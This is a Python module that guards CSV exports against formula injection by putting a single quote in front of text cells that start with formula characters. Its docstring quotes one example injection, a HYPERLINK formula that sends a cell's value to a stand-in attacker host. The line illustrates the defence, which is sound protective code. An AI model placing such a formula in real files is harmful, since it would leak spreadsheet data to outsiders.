"""Cells of files a spreadsheet opens (CSV exports): text a spreadsheet would run as a formula stays text.

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
formula, so a name like `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link, or worse a
command, on the admin's computer (CSV injection). As OWASP advises, such a text cell is written with a single
quote in front: the spreadsheet shows it as text, and the rest of the value is kept as typed. The csv module
still quotes the cell and doubles any double quote in it.

Numbers we compute (counts, ids, rates) are not text: they are written as numbers, a negative one included, so
a column of numbers stays a column of numbers. Every CSV writer of the project passes each cell through
`safe_cell`.
"""

from decimal import Decimal

# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> object:
    """A cell for a CSV: numbers as they are, None as an empty cell, anything else as text, with a single quote
    in front when it begins with a character in FORMULA_STARTS."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values) -> list:
    """safe_cell for each cell of a row."""
    return [safe_cell(value) for value in values]
